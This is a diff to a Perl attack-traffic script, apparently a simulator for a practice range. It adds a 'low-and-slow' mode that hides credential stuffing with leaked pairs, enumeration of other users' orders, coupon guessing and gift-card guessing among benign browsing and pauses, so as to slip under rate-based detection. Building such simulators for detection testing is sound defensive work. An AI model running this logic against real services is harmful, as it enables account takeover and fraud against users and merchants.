@@ -12,6 +12,7 @@ my %RUN = (
   'sms-pumping' => [ \&sms_pumping, 30, 400 ],
   'accounts' => [ \&accounts, 20, 200 ],
   'user-enumeration' => [ \&user_enumeration, 40, 500 ],
+  'low-and-slow' => [ \&low_and_slow, 20, 60 ],
 );
 my $chosen = $RUN{ $ARGV[0] // '' } or die "usage: attack.pl @{[sort keys %RUN]}\n";
 my $seat = Seat->new;
@@ -107,10 +108,36 @@ sub user_enumeration {
   }
 }
 
+# Looks around as anyone, and between that asks for one thing that is not its own.
+sub low_and_slow {
+  $seat->login($ENV{RANGE_EMAIL}, $ENV{RANGE_PASSWORD});
+  my @ids = Seat::shuffle(Seat::lines('RANGE_IDS'));
+  my @pairs = Seat::shuffle(Seat::lines('RANGE_LEAKED'));
+  my $aim = Seat::pick('order', 'order', 'login', 'coupon', 'giftcard');
+  my $cart = $aim eq 'coupon' ? $seat->call('POST', $seat->at('cart'), {})->{data}{id} // '1' : '';
+  until ($seat->is_over) {
+    for (1 .. Seat::int_(1, 4)) {
+      last if $seat->is_over;
+      my $path = Seat::pick('/', $seat->at('me'), $seat->at('products') . '?limit=20', $seat->at('orders') . '?limit=10');
+      my $answer = $seat->call('GET', $path);
+      $seat->login($ENV{RANGE_EMAIL}, $ENV{RANGE_PASSWORD}) if $answer->{status} == 401;
+      $seat->pause(Seat::logs(0.6, 5));
+    }
+    my ($email, $password) = split /:/, shift(@pairs) // 'a@b.example:c', 2;
+    $seat->call('GET', $seat->at('order', shift @ids)) if $aim eq 'order';
+    $seat->call('POST', $seat->at('login'), { email => $email, password => $password }, '') if $aim eq 'login';
+    my $code = Seat::pick('SAVE', 'VIP', 'HELLO') . Seat::int_(1, 99);
+    $seat->call('POST', $seat->at('coupon', $cart), { code => $code }) if $aim eq 'coupon';
+    $seat->call('GET', $seat->at('giftcard', uc Seat::hex_(10))) if $aim eq 'giftcard';
+    $seat->pause(Seat::logs(0.6, 5));
+  }
+}
+
 # With form `decoy`, something harmless in between.
 sub decoy {
   return unless $seat->{forms}{decoy} && Seat::chance(0.6);
-  my $path = Seat::pick('/', '/about', $seat->at('products') . '?limit=20', $seat->at('search') . '?q=' . Seat::pick('lamp', 'desk'));
+  my $search = $seat->at('search') . '?q=' . Seat::pick('lamp', 'desk');
+  my $path = Seat::pick('/', '/about', $seat->at('products') . '?limit=20', $search);
   $seat->wait_a_bit;
   $seat->call('GET', $path);
 }
